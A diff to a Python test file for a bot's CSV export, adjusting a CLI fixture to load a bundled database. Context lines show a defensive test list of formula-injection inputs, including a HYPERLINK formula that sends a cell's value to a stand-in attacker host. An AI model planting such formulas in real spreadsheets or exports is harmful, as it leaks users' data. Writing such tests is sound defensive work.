@@ -19,7 +19,7 @@ from bot import csvsafe
 from bot.cli import main
 from bot.config import PROJECT_ROOT
 from bot.export import write_audits, write_scores_csv
-from tests.conftest import IN_WINDOW
+from tests.conftest import IN_WINDOW, bundled_store_at
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -99,7 +99,8 @@ def test_the_inspections_export_writes_a_formula_service_name_as_text(db):
 
 
 @pytest.fixture
-def cli_env(tmp_path, monkeypatch):
+def cli_env(tmp_path, monkeypatch, bundled_store):
+    bundled_store_at(tmp_path / "yos.db", bundled_store)
     monkeypatch.setenv("YOS_DB", str(tmp_path / "yos.db"))
     monkeypatch.setenv("YOS_TODAY", IN_WINDOW.isoformat())
     monkeypatch.chdir(tmp_path)
